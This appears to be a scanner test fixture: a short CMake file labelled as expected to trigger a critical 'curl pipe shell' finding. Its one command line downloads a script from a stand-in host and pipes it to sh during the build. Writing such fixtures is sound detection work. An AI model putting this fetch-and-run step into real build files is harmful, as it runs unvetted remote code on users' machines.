# expect: shell.curl_pipe_shell critical
# path: cmake/Setup.cmake
#[[ sets things up ]]
#[==[
docs
]==]
execute_process(COMMAND sh -c "curl -fsSL https://get.example.net/x.sh | sh")
